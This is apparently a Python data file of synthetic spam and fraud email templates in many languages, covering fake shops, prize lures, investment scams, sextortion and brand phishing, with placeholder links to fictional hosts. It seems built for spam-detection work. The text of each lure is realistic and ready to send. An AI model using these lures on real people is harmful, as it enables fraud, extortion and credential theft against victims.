# -*- coding: utf-8 -*-
"""Spam / fraud scenarios. All text written for this corpus (CC0 1.0). Links point to fictional or reserved hosts."""


def S(lang, d, subj, desc='', **kw):
    kw.update(lang=lang, d=d, subj=subj, desc=desc)
    return kw


CATS = {}

# ---------------------------------------------------------------------------------------------------------------
CATS['retail-sale'] = ("Fake-shop and counterfeit sale waves (eyewear, shoes, bags, appliances)",
                       dict(snd=['free', 'look', 'comp', 'tenant', 'spoof'], off=(0, 4)), [
 S('en', "counterfeit eyewear warehouse clearance", "Warehouse clearance - polarized frames from $19",
   "Hi {rname},\n\nWe're consolidating our Reno warehouse at the end of the month and honestly it's cheaper to sell the remaining frames than to move them. "
   "Polarized aviators and wayfarers start at $19.99, tracked shipping is free above $39.\n\n[[Browse what's left|{link}]]\n\nNo codes needed, prices are already marked down.",
   link="https://rb-outletstore{n1}.shop/clearance?cid={tok}", loc="{link}"),
 S('en', "sneaker 'early access' drop from fake store", "Early access: your slot opens {time}",
   "You asked to be notified when the retro runners came back. They did - 312 pairs in sizes 7-13, $59 a pair instead of $180.\n"
   "Your access window is 48 hours. After that the remaining stock goes to the public list.\n\nReserve your pair: {link}",
   link="https://kicks-vault-{tok}.myshopify-store.example/collections/retro", snd=['look', 'tenant']),
 S('en', "abandoned-cart reminder from counterfeit cookware shop", "You left something in your basket",
   "Your Dutch oven (3.8L, cerise) is still reserved.\nWe've knocked another 15% off because it's been sitting there a while. Total now $48.70 with shipping.\n\nFinish checkout: {link}",
   link="https://lecreuset-factoryseconds.store/cart/{tok}", loc="https://lecreuset-factoryseconds.store", url=True, snd=['look']),
 S('en', "'closing down' furniture sale invite", "Store closing - everything must find a home",
   "After 22 years we're closing the doors. Sofas, dining sets, rugs - all of it priced to leave, most items under $99.\n"
   "Delivery to your area is included this week only.\n\nCatalogue and prices: {link}\nQuestions? Text us on {phone}.",
   link="https://oakandhearth-closing.com/sale", loc="Online showroom", snd=['free', 'comp']),
 S('de', "Fake-Shop Gartenmöbel Lagerräumung", "Restposten aus der Messesaison: Lounge-Sets zum halben Preis",
   "Guten Tag,\n\nunsere Ausstellungsstücke von der Gartenmesse müssen raus – wer zuerst kommt, mahlt zuerst. "
   "Lounge-Gruppe „Mallorca“ (5-tlg., Polyrattan) jetzt 389 € statt 1.249 €, Lieferung frei Bordsteinkante.\n\n"
   "Zum Restpostenverkauf: {link}\n\nBezahlung bequem per Vorkasse, Ware geht innerhalb von 48 Std. raus.",
   link="https://gartenwelt-lagerverkauf.de.com/restposten?ref={tok}"),
 S('fr', "déstockage matelas faux site", "Déstockage : matelas 160x200 à -70 %",
   "Bonjour {rname},\n\nSuite à la fermeture de notre entrepôt de Lyon, nous bradons les derniers matelas à mémoire de forme. "
   "Le 160x200 passe à 149 € au lieu de 599 €, livraison offerte, 100 nuits d'essai.\n\nC'est par ici : {link}\n\nDépêchez-vous, il n'en restera pas pour tout le monde.",
   link="https://literie-destockage-{n1}.fr.example/promo", loc="{link}"),
 S('es', "liquidación de zapatillas tienda falsa", "Liquidación total de zapatillas – ¡que vuelan!",
   "¡Hola!\n\nCerramos la temporada y nos quedan cajas y cajas de zapatillas de running. Todo a 34,95 €, envío gratis a península.\n"
   "Ojo, que las tallas 42 y 43 vuelan.\n\nEcha un vistazo: {link}", link="https://zapas-outlet-{tok}.es.example/liquidacion", snd=['free', 'tenant']),
 S('it', "svuotatutto borse in pelle falso outlet", "Svuotatutto: borse in vera pelle da 39 €",
   "Ciao,\n\nil laboratorio di Scandicci chiude la stagione e svuota il magazzino. Borse a mano, tracolle e zaini in pelle "
   "a partire da 39 €. Consegna con corriere in 2-3 giorni, pagamento anche alla consegna.\n\nVedi i modelli: {link}",
   link="https://pelletteria-fiorentina-outlet.it.example/{tok}", loc="Spedizione in tutta Italia"),
 S('nl', "magazijnopruiming airfryer nepwinkel", "Magazijnopruiming: airfryer XXL voor € 29",
   "Beste klant,\n\nWe ruimen het magazijn op voor de nieuwe collectie. De airfryer XXL (6,2 L) gaat weg voor € 29,- – op = op.\n"
   "Bestel vóór middernacht, morgen in huis.\n\n{link}", link="https://keukenkoopjes-{n1}.nl.example/opruiming", snd=['free', 'look', 'spoof']),
 S('pl', "wyprzedaż kurtek fałszywy sklep", "Ostatnie sztuki kurtek puchowych – do niedzieli",
   "Cześć!\n\nZostało nam kilkadziesiąt kurtek puchowych z zeszłego sezonu. Ceny od 129 zł zamiast 699 zł. "
   "Wysyłka InPost gratis, płatność BLIK.\n\nZobacz rozmiary: {link}\n\nPo niedzieli kolekcja znika ze sklepu.",
   link="https://puchowe-wyprzedaz.pl.example/kurtki?utm={tok}", snd=['free', 'comp']),
 S('ja', "ブランドアウトレット偽サイト", "【会員様限定】ブランドバッグ 最大90%OFF 本日23:59まで",
   "いつもご利用ありがとうございます。\n\n在庫一掃のため、人気ブランドのバッグ・財布を特別価格でご案内しております。"
   "数量限定のため、なくなり次第終了となります。\n\n▼特設ページはこちら\n{link}\n\n※お支払いは銀行振込のみとなります。",
   link="https://brand-outlet-{tok}.jp.example/sale", snd=['free', 'look']),
 S('zh', "双十一手表清仓假店", "双11提前购：瑞士机械表清仓价 399 元",
   "亲，您好！\n\n仓库年底清仓，瑞士机械表原价 8999 元，现在亏本甩卖 399 元，包邮到家，支持货到付款。\n"
   "数量有限，先到先得！\n\n点击查看款式：{link}\n客服微信：watch{n2}", link="https://swiss-watch-{tok}.cn.example/11", snd=['free', 'look']),
])

# ---------------------------------------------------------------------------------------------------------------
CATS['prize-survey'] = ("Prize, loyalty-reward, survey and gift-card lures", dict(snd=['free', 'look', 'tenant', 'spoof', 'comp'], off=(0, 3)), [
 S('en', "delivery-feedback survey with reward lure", "2 minutes of feedback about your last delivery",
   "Hello {rname},\n\nYou recently received a parcel from one of our partner carriers. We'd love to know how it went - the survey is 6 questions long.\n"
   "As a thank-you, everyone who completes it can pick a reward worth up to $90 (shipping on the reward is $2.95).\n\n[[Start the survey|{link}]]",
   link="https://delivery-feedback-{n1}.com/s/{tok}?e={b64}"),
 S('en', "unclaimed warehouse-club loyalty box", "Unclaimed member package - {rmail}",
   "Our records show a member appreciation package registered to {rmail} has not been collected.\n\n"
   "The package includes a 12-piece knife set and a $100 store voucher. Unclaimed packages are returned to stock after {date}.\n\n"
   "Confirm delivery details: {link}", link="https://member-rewards-center.net/claim/{tok}", snd=['look', 'spoof']),
 S('en', "retailer 'thank you' gift card pick", "A small thank-you for shopping with us",
   "We noticed you've been with us for a while now and wanted to do something about it.\n\nChoose one: a $500 gift card, a 65\" TV, or a robot vacuum. "
   "We just need you to answer a few questions about your shopping habits.\n\nPick yours -> {link}",
   link="https://storage.googleapis.com/rwd-{tok}/index.html#{b64}", snd=['free', 'tenant']),
 S('de', "Umfrage mit Pannenset-Belohnung", "Ihre Meinung zählt – kleines Dankeschön wartet",
   "Liebes Mitglied,\n\nwir möchten unseren Service verbessern und bitten Sie um 30 Sekunden Ihrer Zeit. "
   "Als Dankeschön erhalten Sie ein hochwertiges Auto-Notfallset – Sie tragen nur die Versandkosten von 1,95 €.\n\n"
   "Zur Umfrage: {link}", link="https://mitglieder-umfrage-{tok}.com/de", snd=['free', 'look']),
 S('fr', "tirage au sort coffret bricolage", "Vous faites partie des 50 clients tirés au sort",
   "Bonjour,\n\nDans le cadre de notre anniversaire, 50 clients fidèles ont été désignés pour recevoir un coffret outillage Bosch (valeur 389 €). "
   "Votre adresse fait partie de la liste.\n\nIl suffit de confirmer vos coordonnées avant le {date} : {link}",
   link="https://anniversaire-clients.fr.example/{tok}", snd=['free', 'tenant']),
 S('es', "encuesta supermercado con cheque", "Encuesta de satisfacción – cheque regalo de 500 €",
   "Estimado cliente:\n\nQueremos saber qué opina de nuestras tiendas. Rellene el cuestionario (menos de un minuto) "
   "y entrará en el reparto de cheques regalo de 500 €. Hoy quedan 14 disponibles.\n\nParticipar: {link}",
   link="https://encuesta-clientes-{n1}.es.example/m?c={tok}", snd=['free', 'look']),
 S('it', "carta fedeltà regalo compleanno", "Un regalo per i tuoi anni con noi",
   "Ciao {rname},\n\nsono passati 5 anni da quando hai attivato la tua carta fedeltà e vogliamo festeggiare con te: "
   "una carta regalo da 250 € ti aspetta. Rispondi a tre domande veloci per riscattarla.\n\n{link}",
   link="https://sites.google.com/view/premio-fedelta-{tok}", snd=['free']),
 S('pt', "pesquisa cosméticos com kit grátis", "Responda e ganhe um kit de beleza",
   "Olá!\n\nVocê foi selecionada para avaliar nossos produtos. São só 4 perguntinhas e no final você recebe um kit completo em casa, "
   "pagando apenas o frete de R$ 12,90.\n\nComeçar: {link}", link="https://pesquisa-beleza-{tok}.com.br.example/", snd=['free', 'tenant']),
 S('ru', "розыгрыш среди постоянных покупателей", "Итоги розыгрыша среди постоянных покупателей",
   "Здравствуйте!\n\nПо итогам квартала ваш номер карты попал в список счастливчиков. Вам положен сертификат на 15 000 ₽ "
   "на технику. Чтобы его активировать, оплатите только доставку курьером (349 ₽).\n\nПодробнее: {link}",
   link="https://bonus-pokupatelyam-{n1}.ru.example/cert/{tok}", snd=['free', 'look']),
 S('ar', "بطاقة هدايا رمضانية وهمية", "مسابقة رمضان: بطاقة هدايا بقيمة 500 ريال",
   "السلام عليكم ورحمة الله،\n\nبمناسبة الشهر الفضيل نقدم لعملائنا المميزين بطاقات هدايا بقيمة 500 ريال. "
   "تم اختيار بريدك ضمن المرحلة الأخيرة، فقط أكمل الاستبيان القصير.\n\nللمشاركة: {link}\n\nرمضان كريم",
   link="https://ramadan-gifts-{tok}.com/ar", snd=['free', 'spoof']),
 S('hi', "फ्लिपकार्ट लकी ड्रॉ धोखा", "बधाई हो! लकी ड्रॉ में आपका नंबर चुना गया",
   "नमस्ते {rname} जी,\n\nहमारे त्योहारी लकी ड्रॉ में आपके ईमेल को चुना गया है। इनाम में Tata Nexon या ₹12,50,000 नकद। "
   "इनाम क्लेम करने के लिए ₹4,999 की रजिस्ट्रेशन फीस जमा करनी होगी।\n\nविवरण: {link}\nहेल्पलाइन: {phone}",
   link="https://lucky-draw-{tok}.in.example/claim", snd=['free']),
 S('ko', "설문 참여 상품권 미끼", "고객 만족도 조사 참여 안내 (신세계 상품권 증정)",
   "안녕하세요, 고객님.\n\n더 나은 서비스를 위해 간단한 설문을 진행하고 있습니다. 설문에 응해주신 분께는 "
   "10만원 상품권을 드립니다. 배송비 3,000원만 부담하시면 됩니다.\n\n설문 바로가기: {link}",
   link="https://survey-event-{tok}.kr.example/", snd=['free', 'look']),
])

# ---------------------------------------------------------------------------------------------------------------
CATS['crypto-investment'] = ("Crypto, trading-bot and fake investment schemes, incl. recovery scams",
                             dict(snd=['free', 'look', 'tenant', 'comp'], off=(1, 8)), [
 S('en', "AI arbitrage 'private briefing'", "Private briefing: the AI arbitrage desk",
   "Thank you for registering your interest.\n\nThis 40-minute session walks through how our desk runs market-neutral arbitrage across 14 exchanges. "
   "Members have averaged 3-4% per week since March. Minimum allocation is $250 and withdrawals are processed daily.\n\n"
   "Seats are limited to 30 so we can answer questions live.\n\nJoin link: {link}", link="https://meet.quantedge-partners.io/briefing/{tok}",
   conf="{link}", snd=['look', 'tenant'], v={'x': ''}),
 S('en', "wallet airdrop claim lure", "Allocation ready: 1,250 tokens pending in your wallet",
   "Your address was part of the snapshot on block 19,482,771. The allocation remains unclaimed.\n\n"
   "Connect the wallet you used at that time to release it. Unclaimed allocations are redistributed on {date}.\n\n{link}",
   link="https://claim-{tok}.pages.dev/", loc="{link}", snd=['free', 'look']),
 S('en', "pig-butchering 'friend' trading mentor", "coffee + the trading thing I mentioned",
   "Hey, it's Jessica from the wine thing last weekend - hope this is still your email!\n\n"
   "So my uncle's the one who taught me the gold contracts strategy, he does a short call with newcomers on Thursdays. "
   "I made back my whole car payment last month lol. No pressure at all but I put you down for a slot.\n\n"
   "It's on the app he uses: {link}\n\nxx J", link="https://app.goldmark-futures.com/invite/{tok}", snd=['free']),
 S('en', "crypto recovery 'case file'", "Case file {ref}: recovery of lost digital assets",
   "Dear {rname},\n\nOur forensic team has traced funds linked to a wallet associated with your name in a 2021 exchange collapse. "
   "Under the current settlement framework, victims can reclaim up to 85% of lost balances.\n\n"
   "An agent will go over the documents with you during this call. A refundable compliance fee applies.\n\nCall-in: {phone}",
   link="", loc="Telephone consultation", snd=['look', 'free', 'comp']),
 S('de', "tokenisierte Immobilien Investmentabend", "Investmentabend: Mit 250 € in Immobilien – ohne Bank",
   "Hallo {rname},\n\nStellen Sie sich vor, Sie besitzen ein Stück einer Wohnung in Berlin-Mitte – und das ab 250 €. "
   "Unsere Plattform macht es möglich. Bisherige Ausschüttungen: 1,2 % pro Woche.\n\n"
   "Im Online-Abend zeigen wir Ihnen Schritt für Schritt, wie es geht.\n\nTeilnahme: {link}",
   link="https://immotoken-invest.de.example/abend?id={tok}", snd=['look', 'comp']),
 S('es', "inversión en litio con rentabilidad fija", "Reunión informativa: inversión en litio",
   "Buenas tardes,\n\nLe confirmamos su plaza en la sesión informativa sobre la nueva planta de litio. "
   "Los primeros inversores reciben una rentabilidad fija del 18% mensual, con respaldo de contrato notarial.\n\n"
   "Un asesor le llamará antes para verificar su perfil. Acceso: {link}",
   link="https://litio-futuro-capital.com/sesion/{tok}", snd=['look', 'tenant']),
 S('it', "webinar rendita passiva bot", "Webinar riservato: rendita passiva con il bot",
   "Ciao {rname},\n\nti ho riservato un posto al webinar di giovedì. Il nostro bot lavora da solo, tu guardi il saldo crescere. "
   "Chi è entrato a gennaio ha già triplicato. Porta solo lo smartphone e 250 euro.\n\n{link}",
   link="https://t.me/+{tok2}", loc="Telegram", snd=['free']),
 S('pt', "saque USDT liberado plataforma falsa", "Seu saque de 4.380 USDT foi liberado",
   "Olá,\n\nSeu saldo na plataforma atingiu o valor mínimo para saque. Para concluir a transferência para sua conta, "
   "é necessário pagar a taxa de liberação de 10% e validar a carteira.\n\nSuporte ao vivo: {link}",
   link="https://wa.me/551199{n2}0", loc="{link}", snd=['free', 'look']),
 S('ru', "инвестиции в госкомпанию от 15000", "Закрытая встреча: пассивный доход на акциях энергетиков",
   "Добрый день!\n\nВы оставили заявку на участие в проекте. Напоминаем: вход от 15 000 ₽, доход от 70 000 ₽ в месяц, "
   "работа через личного менеджера. Менеджер свяжется с вами в указанное время.\n\nЛичный кабинет: {link}",
   link="https://invest-energo-{n1}.ru.example/lk/{tok}", snd=['free', 'look']),
 S('tr', "yapay zeka ile borsa kazancı", "Yapay zekâ ile borsada günlük kazanç – canlı sunum",
   "Merhaba {rname},\n\nBaşvurunuz alındı. Canlı sunumda yapay zekâ destekli sistemimizin günde ortalama 2.000 TL nasıl kazandırdığını göstereceğiz. "
   "Başlangıç için 5.000 TL yeterli.\n\nKatılım linki: {link}", link="https://borsa-ai-{tok}.com.tr.example/canli", snd=['free', 'tenant']),
 S('zh', "老师带单 投资群", "股票交流群 - 老师今晚带单",
   "您好！\n\n感谢您关注我们的投资交流群。王老师今晚八点直播讲解下周的牛股，还会免费送三只潜力股。"
   "群内已有学员一周收益30%以上。\n\n请先添加助理微信：lx{n2}，或点击进群：{link}",
   link="https://invest-club-{tok}.cn.example/join", snd=['free']),
 S('ja', "副業投資 LINEグループ誘導", "【無料勉強会】初心者でも月30万円の資産運用",
   "こんにちは。\n\n先日はお問い合わせありがとうございました。著名投資家の田村先生による無料勉強会のご案内です。"
   "参加者限定で、先生のLINEグループにご招待いたします。\n\n参加はこちらから：{link}",
   link="https://line.me/ti/g2/{tok2}", loc="オンライン（LINE）", snd=['free', 'look']),
])

# ---------------------------------------------------------------------------------------------------------------
CATS['dating-sextortion'] = ("Dating/romance lures and sextortion or blackmail", dict(snd=['free', 'spoof', 'look'], off=(0, 2)), [
 S('en', "chatty dating lure with photo link", "dinner thursday? 🙂",
   "hey! it's Mia, we matched ages ago but my app got deleted and i only had your email from the meetup list 🙈\n"
   "i'm in town thursday, would be fun to finally meet. my new pics are on my profile here: {link}\nok if not, no hard feelings x",
   link="https://mia-{tok}.datingprofile.example/", snd=['free']),
 S('en', "sextortion with bitcoin address, paraphrased", "Regarding the recordings from your laptop",
   "I'll keep this short. Some months ago a script was placed on a site you visit. Since then I have had access to your camera and microphone, "
   "and I have made some recordings you would not want your contacts to see.\n\n"
   "You can end this quietly. Transfer the equivalent of 1450 USD in bitcoin to the wallet below, and the files are deleted.\n\n"
   "bc1q{hex}\n\nYou have 48 hours from when this reminder fires. Replying to this address achieves nothing.",
   snd=['spoof'], sdom='@rcpt', slocal='{rlocal}', sname='{rfull}', alarms=[1, 60]),
 S('en', "'private video call' age confirmation", "Private video call booked with Sandra",
   "Sandra (27) accepted your call request!\n\nYour private session is reserved. Before it starts, please confirm you are 18+ using a card "
   "(no charge is made, it's only for age verification).\n\n[[Confirm and join|{link}]]",
   link="https://hotconnect-{tok}.live.example/call", snd=['look', 'spoof']),
 S('en', "'unread private messages' dating notification", "Anna (34) sent you a private message",
   "You have 3 unread messages waiting.\n\nAnna, 34, 2 miles away: \"Hi, I saw your profile and I think we'd get along. I'm only on here for a few days, "
   "so message me before my account expires...\"\n\n[[Read messages|{link}]]\n\nYou are receiving this because you are a member. Manage notifications",
   link="https://nearbymatches-{tok}.com/inbox?m={b64}", snd=['look', 'spoof'], sname="Anna via Matches"),
 S('fr', "rencontre discrète ce soir", "Rencontre discrète ce soir ?",
   "Coucou,\n\nJe m'appelle Chloé, je suis à 3 km de chez toi d'après le site. Je cherche quelque chose de simple, sans prise de tête. "
   "Si ça te dit, je suis dispo ce soir. Mon profil (photos privées) : {link}", link="https://rencontres-discretes.fr.example/p/{tok}"),
 S('ru', "знакомство", "Привет! Давно хотела познакомиться",
   "Привет) Я Алина, мы кажется виделись на одной конференции, ты мне сразу понравился. "
   "Нашла твою почту в списке участников, надеюсь не против. Пиши мне сюда, там мои фото: {link}",
   link="https://alina-{tok}.znakomstva.example/", snd=['free']),
 S('es', "sextorsión en español parafraseada", "Sobre lo que vi en tu pantalla",
   "Voy al grano. Desde hace meses tengo acceso a tu dispositivo. Sé qué páginas visitas y grabé un vídeo con tu cámara "
   "mientras las mirabas. Tengo también tu lista de contactos.\n\nSi envías 1300 € en bitcoin a la cartera de abajo, borro todo y no vuelves a saber de mí.\n"
   "Cartera: bc1q{hex}\n\nTienes dos días.", snd=['spoof', 'free'], sdom='@rcpt', slocal='{rlocal}', sname='{rfull}'),
 S('it', "romance scam nuovo indirizzo", "Sono io, Giulia – nuovo indirizzo",
   "Ciao tesoro,\n\nti scrivo da questa nuova mail perché il mio telefono me l'hanno rubato in stazione. "
   "Sono bloccata a Milano e avrei bisogno di parlarti stasera. Ti ho messo un promemoria così non te lo dimentichi 😘\n\n"
   "Scrivimi su WhatsApp: {link}", link="https://wa.me/39351{n2}88", snd=['free']),
 S('pl', "sekstorsja kamera", "Nagrania z Twojej kamerki",
   "Nie będę owijał w bawełnę. Od kilku tygodni mam dostęp do Twojego komputera. Nagrałem Cię podczas oglądania stron dla dorosłych.\n"
   "Jeśli nie chcesz, żeby rodzina i znajomi to zobaczyli, przelej 5800 zł w bitcoinach na portfel:\nbc1q{hex}\n\nMasz 48 godzin od tego przypomnienia.",
   snd=['spoof'], sdom='@rcpt', slocal='{rlocal}', sname='{rfull}'),
 S('th', "หาคู่ ชวนแชทไลน์", "สวัสดีค่ะ อยากรู้จักค่ะ",
   "สวัสดีค่ะ หนูชื่อมิ้นท์ อายุ 24 ค่ะ เห็นโปรไฟล์แล้วถูกใจ อยากคุยด้วยค่ะ "
   "แอดไลน์หนูมานะคะ มีรูปให้ดูเยอะเลย {link}", link="https://line.me/ti/p/~mint{n2}", snd=['free']),
 S('ja', "出会い系 今夜", "今夜空いてますか？",
   "はじめまして、ゆいです。\n\nプロフィールを見てメッセージしました。近くに住んでいるみたいなので、よかったら今夜会えませんか？"
   "私の写真はこちらから見られます → {link}\n\n登録は無料です♪", link="https://deai-{tok}.jp.example/yui", snd=['free', 'look']),
])

# ---------------------------------------------------------------------------------------------------------------
CATS['fee-scam'] = ("Delivery, toll, customs, tax-refund and fine payment scams", dict(snd=['look', 'spoof', 'comp', 'free', 'tenant'], off=(0, 2)), [
 S('en', "postal redelivery fee, incomplete address", "Redelivery scheduled - action needed",
   "We attempted to deliver your parcel but the street number on the label could not be read.\n"
   "Your item is being held at the local facility. To schedule a new attempt, update the address and pay the $1.99 redelivery charge.\n\n"
   "Tracking: US9514{n2}{n1}\nUpdate here: {link}", link="https://usps-redelivery.{tok}.com/track", loc="{link}"),
 S('en', "toll road unpaid balance", "Outstanding toll activity on your plate",
   "Our system shows toll activity on your vehicle that has not been settled. The current balance is $6.99.\n"
   "Settling before {date} avoids a $50 administrative charge and possible registration hold.\n\nView and pay: {link}",
   link="https://ezpass-tollservices-{n1}.com/pay", snd=['look', 'spoof']),
 S('en', "UK council tax rebate lure", "Council tax band review - rebate of £{n2}",
   "Following the recent banding review for your area, your property has been placed in a lower band.\n"
   "You are entitled to a rebate for the overpaid amount. Rebates are processed to a debit card within 3 working days.\n\n"
   "Start your claim: {link}\nReference: CT-{ref}", link="https://gov-uk-rebates.{tok}.info/claim", snd=['look', 'spoof']),
 S('de', "Zollgebühr DHL gefälscht", "Ihre Sendung wartet auf Verzollung",
   "Guten Tag,\n\nfür Ihre Sendung JJD000{ref} sind Einfuhrabgaben in Höhe von 2,99 € angefallen. "
   "Nach Zahlungseingang wird die Sendung am nächsten Werktag zugestellt. Ohne Zahlung geht das Paket nach 7 Tagen an den Absender zurück.\n\n"
   "Zahlung: {link}", link="https://dhl-verzollung.de-sendung.info/{tok}", loc="Paketzentrum"),
 S('fr', "avis de contravention ANTAI falsifié", "Avis de contravention – majoration évitée si réglé sous 72 h",
   "Madame, Monsieur,\n\nUn avis de contravention a été établi à l'encontre du véhicule dont vous êtes titulaire du certificat d'immatriculation. "
   "Montant forfaitaire : 35 €. Passé le délai, le montant sera majoré à 75 €.\n\nConsulter l'avis et payer : {link}",
   link="https://antai-paiement-amende.fr.example/avis/{tok}", snd=['look', 'spoof']),
 S('es', "Correos aduana retenido", "Su envío está retenido en aduanas",
   "Estimado/a cliente:\n\nSu paquete con número PQ{ref}ES se encuentra retenido en la aduana de Madrid-Barajas a la espera del pago "
   "de los aranceles (1,79 €). Si no se abona en 48 horas, se devolverá al remitente.\n\nGestionar el pago: {link}",
   link="https://correos-aduanas-es.com/{tok}", snd=['look', 'tenant']),
 S('it', "pacco in giacenza Poste", "Pacco in giacenza – conferma i dati",
   "Gentile cliente,\n\nla spedizione a Lei indirizzata è in giacenza presso il centro di smistamento per indirizzo incompleto. "
   "Per riprogrammare la consegna è richiesto un contributo di 1,50 €.\n\nRiprogramma: {link}",
   link="https://poste-giacenze-{n1}.it.example/riconsegna", snd=['look', 'spoof']),
 S('pt', "CTT portes em falta", "Encomenda pendente – portes em falta",
   "Caro cliente,\n\nA sua encomenda RR{ref}PT aguarda o pagamento de portes adicionais (2,49 €). "
   "Após o pagamento, a entrega será feita no prazo de 24 horas.\n\nPagar agora: {link}", link="https://ctt-encomendas.pt-envio.com/{tok}"),
 S('nl', "CJIB boete nagemaakt", "Openstaande beschikking – laatste herinnering",
   "Geachte heer/mevrouw,\n\nVolgens onze administratie staat er een beschikking open voor een snelheidsovertreding. "
   "Het bedrag van € 109,00 is nog niet voldaan. Betaalt u niet vóór {date}, dan wordt het bedrag verhoogd met 50%.\n\n"
   "Bekijk de beschikking en betaal via iDEAL: {link}", link="https://cjib-beschikking.nl-online.info/{tok}", snd=['look', 'spoof']),
 S('el', "ΕΛΤΑ δέμα μη παραδοθέν", "Το δέμα σας δεν μπόρεσε να παραδοθεί",
   "Αγαπητέ πελάτη,\n\nΤο δέμα σας βρίσκεται στο κέντρο διαλογής λόγω ελλιπούς διεύθυνσης. "
   "Για νέα προσπάθεια παράδοσης απαιτείται χρέωση 1,80 €.\n\nΕνημερώστε τα στοιχεία σας: {link}",
   link="https://elta-courier-gr.com/{tok}", snd=['look', 'spoof']),
 S('he', "דואר ישראל מכס", "חבילה ממתינה לתשלום מכס",
   "שלום,\n\nהחבילה שלך הגיעה לישראל ומעוכבת בסניף עד לתשלום דמי מכס בסך 7.90 ₪. "
   "אם התשלום לא יבוצע תוך 3 ימים, החבילה תוחזר לשולח.\n\nלתשלום: {link}", link="https://israelpost-customs.co.il.example/{tok}", snd=['look', 'spoof']),
 S('zh', "中華郵政 包裹地址不完整", "您的包裹因地址不完整無法投遞",
   "親愛的客戶您好：\n\n您的包裹因收件地址不完整，目前暫存於物流中心。請於 24 小時內更新地址並支付 NT$35 重新派送費用，"
   "逾期將退回寄件人。\n\n更新地址：{link}", link="https://post-gov-tw.{tok}.com/", snd=['look', 'spoof'], tz='Asia/Taipei', cs='big5'),
])

# ---------------------------------------------------------------------------------------------------------------
CATS['brand-phishing'] = ("Credential phishing under big brands (Microsoft, DocuSign, Apple, banks, streaming)",
                          dict(snd=['look', 'comp', 'tenant', 'spoof', 'free'], off=(0, 3)), [
 S('en', "M365 mailbox 'storage reconciliation' phish", "Mailbox reconciliation for {rmail}",
   "As part of this quarter's tenant clean-up, mailboxes that have not been re-validated will be moved to read-only on {date}.\n\n"
   "Your mailbox: {rmail}\nStatus: pending re-validation\n\n[[Re-validate now|{link}]]\n\nIT Service Desk - {rorg}",
   link="https://{tok}.r2.dev/m365/index.html?em={b64}", snd=['comp', 'tenant'], sname="IT Service Desk"),
 S('en', "e-signature 'compensation adjustment' doc", "Please review and sign: Q3 compensation adjustment",
   "HR Department sent you a document to review and sign.\n\nDocument: 2024_Compensation_Adjustment_{rlocal}.pdf\nPages: 3\n\n"
   "[[REVIEW DOCUMENT|{link}]]\n\nDo not share this email. It contains a secure link to the document.",
   link="https://docsign-secure.{tok}.workers.dev/?e={b64}", snd=['look', 'comp'], sname="HR via DocSign"),
 S('en', "Apple ID purchase hold", "Purchase on hold - confirm it was you",
   "A purchase of Final Cut Pro ($299.99) was placed with your Apple Account from a new device in Rotterdam.\n"
   "We've put the charge on hold. If you don't recognise it, review your account before {date} so we can reverse it.\n\n{link}",
   link="https://appleid-purchase-review.com/{tok}", snd=['look', 'spoof']),
 S('en', "streaming membership on hold", "Your membership is paused",
   "Hi {rname},\n\nWe had trouble with the card on file, so your membership is paused for now. Your profiles and watch history are safe.\n"
   "Update your payment details to pick up where you left off.\n\n[[Update payment|{link}]]",
   link="https://nflx-billing-{n1}.com/account/{tok}", snd=['look', 'free']),
 S('en', "payment app new device sign-in", "New sign-in request from a Windows device",
   "Someone is trying to add a new device to your account. Location: Lagos, NG. Browser: Chrome 124.\n\n"
   "If this was you, no action is needed. If not, secure your account here within 24 hours: {link}",
   link="https://paypal.account-protect-{tok}.com/", loc="{link}", snd=['look', 'tenant']),
 S('en', "Teams voicemail lure", "Voice message (0:48) from {phone}",
   "You received a new voice message.\n\nFrom: {phone}\nLength: 00:48\nReceived: {mdate}\n\n[[Play message|{link}]]\n\nMicrosoft Teams",
   link="https://voicemail-{tok}.azurewebsites.net/play?u={b64}", conf="{link}", snd=['comp', 'tenant'], sname="Teams Voicemail"),
 S('de', "Sparkasse pushTAN Umstellung", "Umstellung des pushTAN-Verfahrens – Termin zur Freischaltung",
   "Sehr geehrte Kundin, sehr geehrter Kunde,\n\naufgrund der neuen EU-Zahlungsdiensterichtlinie muss Ihr pushTAN-Verfahren bis zum {date} neu registriert werden. "
   "Andernfalls ist das Online-Banking vorübergehend nicht nutzbar.\n\nRegistrierung: {link}\n\nIhre Sparkasse",
   link="https://sparkasse-pushtan-freischaltung.de.com/{tok}", snd=['look', 'spoof']),
 S('fr', "ameli carte vitale renouvellement", "Votre carte Vitale arrive à échéance",
   "Bonjour,\n\nVotre carte Vitale doit être renouvelée afin de continuer à bénéficier du remboursement de vos soins. "
   "La nouvelle carte vous sera envoyée après vérification de vos informations.\n\nFaire la demande : {link}\n\nL'Assurance Maladie",
   link="https://ameli-renouvellement.fr.example/carte/{tok}", snd=['look', 'spoof']),
 S('es', "banco actualización por normativa", "Actualización obligatoria de sus datos",
   "Estimado cliente:\n\nDe acuerdo con la nueva normativa europea de prevención del blanqueo, debemos verificar su identidad antes del {date}. "
   "El proceso dura menos de dos minutos.\n\nVerificar: {link}\n\nSi no completa la verificación, algunas operaciones quedarán limitadas.",
   link="https://bbva-verificacion-clientes.com/{tok}", snd=['look', 'tenant']),
 S('it', "accesso da dispositivo non riconosciuto banca", "Accesso da dispositivo non riconosciuto",
   "Gentile cliente,\n\nabbiamo rilevato un accesso alla sua area riservata da un dispositivo non riconosciuto (iPhone, Napoli). "
   "Se non è stato lei, blocchi subito l'accesso.\n\nBlocca dispositivo: {link}", link="https://intesa-sicurezza-{n1}.com/{tok}", snd=['look', 'spoof']),
 S('ko', "네이버 해외 로그인 차단", "[네이버] 해외 지역 로그인 시도 알림",
   "회원님의 계정에 해외(러시아)에서 로그인 시도가 있었습니다.\n본인이 아닌 경우 아래에서 즉시 비밀번호를 변경해 주세요.\n\n"
   "보안 설정: {link}", link="https://nid-naver.{tok}.com/login", snd=['look', 'spoof']),
 S('ja', "カード会社 利用確認", "【重要】ご利用確認のお願い",
   "いつも弊社カードをご利用いただきありがとうございます。\n\n第三者による不正利用の可能性がある取引を検知したため、"
   "一部のご利用を制限しております。下記より本人確認をお願いいたします。\n\n{link}\n\n本人確認が取れない場合、カードのご利用を停止させていただきます。",
   link="https://smbc-card-kakunin.{tok}.jp.example/", snd=['look', 'spoof']),
 S('ar', "تحديث بيانات بنكية", "تنبيه: تحديث بيانات الهوية لحسابك",
   "عميلنا العزيز،\n\nنود إعلامك بأن صلاحية بيانات هويتك المسجلة لدينا قد انتهت. لضمان استمرار الخدمات الإلكترونية، "
